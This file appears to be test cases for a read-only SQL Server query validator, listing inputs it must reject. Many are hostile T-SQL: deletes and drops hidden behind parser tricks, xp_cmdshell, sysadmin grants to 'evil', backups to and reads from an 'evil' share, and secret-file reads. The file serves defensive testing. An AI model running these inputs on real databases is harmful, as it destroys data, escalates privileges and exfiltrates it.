--# deletes rows
DELETE FROM dbo.orders
--# deletes rows after a semicolon
SELECT 1; DELETE FROM dbo.orders
--# deletes rows without a separator
SELECT 1 DELETE FROM dbo.orders
--# deletes rows without FROM and separator
SELECT 1 DELETE dbo.orders
--# deletes rows on the next line
SELECT 1
DELETE dbo.orders
--# deletes rows after a bracket
SELECT (1)DELETE FROM dbo.orders
--# deletes rows after a string
SELECT 'x'DELETE FROM dbo.orders
--# deletes rows after a bracketed name
SELECT a AS [x]DELETE FROM dbo.orders
--# deletes rows glued to a number
SELECT 1DELETE FROM dbo.orders
--# deletes rows glued to a number with an exponent
SELECT 1eDELETE FROM dbo.orders
--# deletes rows glued to a hexadecimal number
SELECT 0xDELETE FROM dbo.orders
--# deletes rows glued to a money value
SELECT $1DELETE FROM dbo.orders
--# deletes rows after a comment
SELECT 1/**/DELETE/**/FROM dbo.orders
--# deletes rows after a nested comment
SELECT 1 /* /* */ DELETE */ DELETE FROM dbo.orders
--# deletes rows after a condition
SELECT * FROM dbo.orders WHERE 1 = 1 DELETE FROM dbo.orders
--# deletes rows after an order
SELECT * FROM dbo.orders ORDER BY id DELETE FROM dbo.orders
--# deletes rows after options
SELECT * FROM dbo.orders OPTION (RECOMPILE) DELETE FROM dbo.orders
--# deletes rows after FOR XML
SELECT * FROM dbo.orders FOR XML AUTO DELETE FROM dbo.orders
--# deletes rows in mixed case
SELECT 1 dElEtE fRoM dbo.orders
--# deletes rows after WITH
WITH c AS (SELECT 1 AS id) DELETE FROM c
--# deletes rows after WITH and a read
WITH c AS (SELECT 1 AS id) SELECT * FROM c DELETE FROM dbo.orders
--# deletes rows by TOP
SELECT 1 DELETE TOP (10) FROM dbo.orders
--# updates rows
UPDATE dbo.orders SET amount = 0
--# updates rows without a separator
SELECT 1 UPDATE dbo.orders SET amount = 0
--# updates rows after WITH
WITH c AS (SELECT * FROM dbo.orders) UPDATE c SET amount = 0
--# updates statistics
SELECT 1 UPDATE STATISTICS dbo.orders
--# inserts rows
INSERT INTO dbo.orders (id) VALUES (1)
--# inserts rows without a separator
SELECT 1 INSERT dbo.orders (id) VALUES (1)
--# inserts rows by a procedure
SELECT 1 INSERT dbo.orders EXEC dbo.p
--# merges rows
MERGE dbo.orders AS t USING dbo.customers AS s ON t.id = s.id WHEN MATCHED THEN DELETE;
--# merges rows without a separator
SELECT 1 MERGE dbo.orders AS t USING dbo.customers AS s ON t.id = s.id WHEN MATCHED THEN DELETE;
--# writes by a delete's output in FROM
INSERT dbo.log SELECT id FROM (DELETE dbo.orders OUTPUT deleted.id) d
--# reads a delete's output
SELECT * FROM (DELETE FROM dbo.orders OUTPUT deleted.id) AS d
--# reads a merge's output
SELECT * FROM (MERGE dbo.a AS t USING dbo.b AS s ON t.id = s.id WHEN MATCHED THEN DELETE OUTPUT $action) AS m (act)
--# truncates a table
TRUNCATE TABLE dbo.orders
--# truncates a table without a separator
SELECT 1 TRUNCATE TABLE dbo.orders
--# drops a table
DROP TABLE dbo.orders
--# drops a table without a separator
SELECT 1 DROP TABLE dbo.orders
--# creates a table by SELECT INTO
SELECT * INTO dbo.stolen FROM dbo.customers
--# creates a temporary table by SELECT INTO
SELECT id INTO #stolen FROM dbo.customers
--# creates a global temporary table by SELECT INTO
SELECT TOP (10) id INTO ##stolen FROM dbo.customers
--# creates a table by INTO after WITH
WITH c AS (SELECT 1 AS id) SELECT id INTO dbo.stolen FROM c
--# creates a table by INTO without blanks
SELECT[id]INTO[stolen]FROM[dbo].[customers]
--# creates a table
CREATE TABLE dbo.stolen (id int)
--# creates a view without a separator
SELECT 1 CREATE VIEW dbo.v AS SELECT 1 AS a
--# creates a login
SELECT 1 CREATE LOGIN evil WITH PASSWORD = 'x'
--# alters a table
ALTER TABLE dbo.orders ADD x int
--# alters the server
SELECT 1 ALTER SERVER ROLE sysadmin ADD MEMBER evil
--# alters the database
SELECT 1 ALTER DATABASE CURRENT SET READ_ONLY WITH ROLLBACK IMMEDIATE
--# alters authorization
SELECT 1 ALTER AUTHORIZATION ON dbo.orders TO evil
--# runs a procedure
EXEC dbo.do_harm
--# runs a procedure without a separator
SELECT 1 EXEC dbo.do_harm
--# runs a procedure by its full verb
SELECT 1 EXECUTE dbo.do_harm
--# runs a procedure by its bare name
sp_who
--# runs a procedure by its bare qualified name
dbo.do_harm 1
--# runs a procedure by its bracketed name
[dbo].[do_harm] @a = 1
--# runs a procedure named like a read in brackets
[SELECT] 1
--# runs a procedure by a quoted name
"dbo"."do_harm"
--# runs text
EXEC ('DELETE FROM dbo.orders')
--# runs text without a separator
SELECT 1 EXEC ('DELETE FROM dbo.orders')
--# runs text by sp_executesql
SELECT 1 EXEC sp_executesql N'DELETE FROM dbo.orders'
--# runs text on a linked server
SELECT 1 EXEC ('DELETE FROM orders') AT remote
--# runs a program on the server
EXEC xp_cmdshell 'dir'
--# runs a program after a read
SELECT 1; EXEC master..xp_cmdshell 'dir'
--# changes the login
SELECT 1 EXECUTE AS LOGIN = 'sa'
--# goes back to the login
SELECT 1 REVERT
--# ends the transaction that would be rolled back
SELECT 1 COMMIT
--# ends the transaction and writes
COMMIT TRANSACTION DELETE FROM dbo.orders
--# ends the transaction, with the transaction's word
SELECT 1 COMMIT TRAN
--# rolls back the transaction
SELECT 1 ROLLBACK
--# begins a transaction
SELECT 1 BEGIN TRANSACTION
--# begins a block
BEGIN SELECT 1 DELETE FROM dbo.orders END
--# saves a transaction
SELECT 1 SAVE TRANSACTION t
--# declares a variable
DECLARE @x int SELECT @x
--# declares a variable after a read
SELECT 1 DECLARE @sql nvarchar(max) = N'DELETE FROM dbo.orders' EXEC (@sql)
--# declares a cursor
SELECT 1 DECLARE c CURSOR FOR SELECT * FROM dbo.orders
--# opens a cursor
SELECT 1 OPEN c
--# fetches from a cursor
SELECT 1 FETCH NEXT FROM c
--# fetches from a cursor after a list of rows
SELECT a AS rows FETCH NEXT FROM c INTO @x
--# closes a cursor
SELECT 1 CLOSE c
--# deallocates a cursor
SELECT 1 DEALLOCATE c
--# assigns a variable
SELECT @x = 1
--# assigns a variable as the second column
SELECT DISTINCT id, @x = name FROM dbo.customers
--# assigns a variable after TOP
SELECT TOP (1) @x = name FROM dbo.customers
--# assigns a variable after TOP without brackets
SELECT TOP 1 @x = name FROM dbo.customers
--# adds to a variable
SELECT @x += 1
--# joins text to a variable
SELECT @sql += name FROM dbo.customers
--# sets a variable
SELECT 1 SET @x = 1
--# sets an option
SET NOCOUNT ON
--# sets an option after a read
SELECT 1 SET IDENTITY_INSERT dbo.orders ON
--# sets the isolation level
SELECT 1 SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
--# sets an option that ends the session's checks
SET XACT_ABORT OFF; SELECT 1
--# changes the database
USE master
--# changes the database after a read
SELECT 1 USE master
--# waits
WAITFOR DELAY '0:0:10'
--# waits after a read
SELECT 1 WAITFOR DELAY '0:0:10'
--# decides
IF 1 = 1 DELETE FROM dbo.orders
--# decides after a read
SELECT 1 IF EXISTS (SELECT 1) DELETE FROM dbo.orders
--# loops
SELECT 1 WHILE 1 = 1 SELECT 2
--# jumps
again: SELECT 1 GOTO again
--# returns
SELECT 1 RETURN
--# prints
SELECT 1 PRINT 'x'
--# raises an error
SELECT 1 RAISERROR ('x', 16, 1) WITH LOG
--# throws
SELECT 1; THROW 50000, 'x', 1
--# throws without a separator
SELECT 1 THROW 50000, 'x', 1
--# tries
BEGIN TRY SELECT 1 END TRY BEGIN CATCH DELETE FROM dbo.orders END CATCH
--# grants
GRANT SELECT ON dbo.orders TO evil
--# grants without a separator
SELECT 1 GRANT CONTROL ON dbo.orders TO evil
--# denies
SELECT 1 DENY SELECT ON dbo.orders TO other
--# revokes
SELECT 1 REVOKE SELECT ON dbo.orders FROM other
--# backs up to a place of the caller's
SELECT 1 BACKUP DATABASE shop TO DISK = '\\evil\share\x.bak'
--# restores
SELECT 1 RESTORE DATABASE shop FROM DISK = 'x'
--# runs console commands
DBCC FREEPROCCACHE
--# runs console commands after a read
SELECT 1 DBCC SHRINKDATABASE (shop)
--# kills a session
SELECT 1 KILL 51
--# shuts the server down
SELECT 1 SHUTDOWN WITH NOWAIT
--# reconfigures
SELECT 1 RECONFIGURE
--# writes a checkpoint
SELECT 1 CHECKPOINT
--# loads a file
BULK INSERT dbo.orders FROM '\\evil\share\x'
--# loads a file after a read
SELECT 1 BULK INSERT dbo.orders FROM 'x'
--# writes text
SELECT 1 WRITETEXT t.c @p 'x'
--# updates text
SELECT 1 UPDATETEXT t.c @p 0 1 'x'
--# switches a trigger off
SELECT 1 WHERE 1 = 1 DISABLE TRIGGER t ON dbo.orders
--# switches a trigger on
ENABLE TRIGGER t ON dbo.orders
--# receives messages off a queue
SELECT 1; RECEIVE * FROM dbo.queue
--# receives messages without a separator
SELECT 1 WHERE 1 = 1 RECEIVE TOP (1) * FROM dbo.queue
--# ends a conversation
SELECT 1 END CONVERSATION @h
--# sends a message
SELECT 1 WHERE 1 = 1 SEND ON CONVERSATION @h MESSAGE TYPE m
--# begins a dialog
SELECT 1 BEGIN DIALOG CONVERSATION @h FROM SERVICE a TO SERVICE 'b'
--# adds a signature
SELECT 1 ADD SIGNATURE TO dbo.p BY CERTIFICATE c
--# opens a key
SELECT 1 OPEN SYMMETRIC KEY k DECRYPTION BY PASSWORD = 'x'
--# reads a linked server by a name of four parts
SELECT * FROM remote.shop.dbo.orders
--# reads a linked server by a name with empty parts
SELECT * FROM remote...orders
--# reads a linked server by a name without schema
SELECT * FROM [remote].[shop]..[orders]
--# reads a linked server, with blanks around the dots
SELECT * FROM remote . shop . dbo . orders
--# reads a linked server in a join
SELECT * FROM dbo.orders o JOIN remote.shop.dbo.customers c ON c.id = o.id
--# runs a query on a linked server
SELECT * FROM OPENQUERY(remote, 'DELETE FROM orders')
--# reads a file
SELECT * FROM OPENROWSET(BULK 'c:\secrets.txt', SINGLE_CLOB) AS f
--# connects elsewhere
SELECT * FROM OPENROWSET('SQLNCLI', 'server=evil', 'SELECT 1') AS r
--# connects elsewhere by a data source
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'server=evil').shop.dbo.orders
--# reads a document by handle
SELECT * FROM OPENXML(@h, '/a') WITH (x int)
--# advances a sequence
SELECT NEXT VALUE FOR dbo.numbers
--# advances a sequence over rows
SELECT id, NEXT VALUE FOR dbo.numbers OVER (ORDER BY id) FROM dbo.orders
--# advances a sequence, in pieces
SELECT next /**/ value
for dbo.numbers
--# locks rows exclusively
SELECT * FROM dbo.orders WITH (XLOCK)
--# locks rows for update
SELECT * FROM dbo.orders WITH (UPDLOCK, READPAST)
--# locks a table exclusively
SELECT * FROM dbo.orders WITH (TABLOCKX)
--# locks a table exclusively by the old form
SELECT * FROM dbo.orders (TABLOCKX)
--# locks a table exclusively by the oldest form
SELECT * FROM dbo.orders o (XLOCK, ROWLOCK)
--# holds locks
SELECT * FROM dbo.orders WITH (HOLDLOCK)
--# holds range locks
SELECT * FROM dbo.orders WITH (NOLOCK) JOIN dbo.customers WITH (SERIALIZABLE) ON 1 = 1
--# locks by a query hint
SELECT * FROM dbo.orders OPTION (TABLE HINT (dbo.orders, XLOCK))
--# sets a trace flag for the query
SELECT * FROM dbo.orders OPTION (QUERYTRACEON 8649)
--# opens rows for update
SELECT * FROM dbo.orders FOR UPDATE
--# changes xml
SELECT c.modify('delete /a') FROM dbo.docs
--# calls an unknown function
SELECT dbo.do_harm(1)
--# calls an unknown function by bracketed names
SELECT [dbo].[do_harm](1)
--# calls an unknown function, with blanks and comments
SELECT dbo . /* . */ do_harm -- (
 (1)
--# calls an unknown function of another database
SELECT other.dbo.do_harm(1)
--# calls an unknown function that has the name of a built-in one
SELECT dbo.getdate()
--# calls an unknown function that has the name of a method
SELECT dbo.value('a', 'b')
--# calls an unknown table function
SELECT * FROM do_harm(1)
--# applies an unknown table function
SELECT * FROM dbo.orders o CROSS APPLY dbo.do_harm(o.id) AS x
--# calls an unknown function that looks like one with hints
SELECT dbo.do_harm(nolock) FROM dbo.orders
--# calls an unknown function in a condition of a join
SELECT * FROM dbo.orders o JOIN dbo.customers c ON dbo.do_harm(nolock) = 1
--# calls an unknown static method
SELECT evil::DoHarm(1)
--# calls an unknown method
SELECT o.harm.DoHarm() FROM dbo.orders o
--# calls a PostgreSQL function on Babelfish
SELECT COUNT(*) FROM pg_sleep(20)
--# reads a file by a system function
SELECT * FROM sys.fn_trace_gettable('\\evil\share\x.trc', 1)
--# reads audit files
SELECT * FROM sys.fn_get_audit_file('\\evil\share\x', NULL, NULL)
--# reads event files
SELECT * FROM sys.fn_xe_file_target_read_file('\\evil\x.xel', NULL, NULL, NULL)
--# lists files of the server
SELECT * FROM sys.dm_os_enumerate_filesystem('c:\', '*')
--# reads the log
SELECT * FROM fn_dblog(NULL, NULL)
--# decrypts
SELECT DECRYPTBYPASSPHRASE('x', 0x01)
--# calls by an ODBC escape
{call dbo.do_harm}
--# calls a function by an ODBC escape
SELECT {fn dbo_harm(1)}
--# hides a delete behind a bracket that is escaped
SELECT 1 AS [a]]] DELETE FROM dbo.orders -- ]
--# hides a delete behind a quoted name
SELECT 1 AS "a""" DELETE FROM dbo.orders -- "
--# hides a delete behind a string
SELECT 'a''' DELETE FROM dbo.orders -- '
--# hides a delete behind a backslash that escapes nothing
SELECT '\' DELETE FROM dbo.orders -- '
--# hides a delete behind a Unicode string
SELECT N'x'DELETE FROM dbo.orders
--# hides a delete behind a comment that does not nest elsewhere
SELECT 1 /* /* */ ' */ DELETE FROM dbo.orders -- '
--# hides a delete behind a line comment in a string
SELECT '--' DELETE FROM dbo.orders
--# hides a delete behind a comment mark in a bracketed name
SELECT 1 AS [/*] DELETE FROM dbo.orders --*/
--# hides a delete behind dollar quotes, which T-SQL lacks
SELECT 1 AS a, '$$' DELETE FROM dbo.orders --$$
--# hides a delete behind a no-break space
SELECT 1 DELETE FROM dbo.orders
--# hides a delete behind an ideographic space
SELECT 1　DELETE　FROM　dbo.orders
--# spells a delete with full-width letters
SELECT 1 ＤＥＬＥＴＥ FROM dbo.orders
--# hides a batch behind GO
SELECT 1
GO
DELETE FROM dbo.orders
--# starts with a semicolon
;DELETE FROM dbo.orders
--# reads twice
SELECT 1 SELECT 2
--# reads twice, with WITH in between
SELECT 1 WITH c AS (SELECT 2 AS a) SELECT a FROM c
--# shows a plan by a setting
SET SHOWPLAN_XML ON
--# explains, which T-SQL lacks
EXPLAIN SELECT 1
--# deletes rows glued to a money sign
SELECT $DELETE FROM dbo.orders
--# takes a constant message off a queue
SELECT 1 RECEIVE 1 FROM dbo.messages
--# advances a sequence in functional notation (Babelfish)
SELECT ('order_numbers').nextval
--# advances a sequence in functional notation with a quoted name (Babelfish)
SELECT ('order_numbers') . [nextval]
--# sleeps in functional notation (Babelfish)
SELECT * FROM dbo.orders WHERE (CAST(60 AS float))."pg_sleep" IS NULL
